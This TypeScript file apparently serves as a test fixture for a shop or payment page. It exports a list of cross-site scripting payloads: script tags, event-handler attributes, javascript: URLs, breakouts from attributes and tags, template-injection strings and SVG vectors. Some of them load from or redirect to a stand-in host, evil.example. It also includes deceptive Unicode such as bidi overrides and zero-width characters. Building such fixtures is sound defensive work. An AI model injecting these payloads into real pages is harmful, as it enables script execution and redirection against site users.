// Texts that try to be more than text: what a shop, a payer or a link could put into a page. Each one
// that came alive would set window.__xss, open a dialog or ask another address.

const RUN = "window.__xss=1";
const ASK = "//evil.example/x";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src=${ASK}></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<a href=# onclick=${RUN}>x</a>`,
];

const ADDRESSES = [
  `<a href="javascript:${RUN}">x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<meta http-equiv=refresh content="0;url=${ASK}">`,
  `<base href=${ASK}>`,
  `javascript:${RUN}`,
];

const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `" onfocus=${RUN} autofocus x="`,
  `x onerror=${RUN} `,
  `--><script>${RUN}</script><!--`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
];

const TEMPLATES = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  "&amp;&copy;&nbsp;&#0;&#x1F600;&notit;",
  "%3Cscript%3E%00%22%27",
  "$& $1 $` $' \\0 \\u003cscript\\u003e",
];

const IMAGES = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><style><img src onerror=${RUN}></style>`,
  `<style>@import '${ASK}'</style>`,
  `x;background:url(${ASK})}`,
];

const LETTERS = [
  "\u202eexample.knab\u202c \u2066left\u2069",
  "\u200f\u200e\u061c(shop.example)",
  "\u200b\u200c\u200d\ufeff\u2060",
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  "Z\u0351\u036b\u0343\u0348\u0322a\u0321\u0353l\u0332g\u033bo\u0355".repeat(4),
  "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "W".repeat(100),
  "مرحبا بالعالم שלום",
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...BREAKOUTS,
  ...TEMPLATES,
  ...IMAGES,
  ...LETTERS,
];
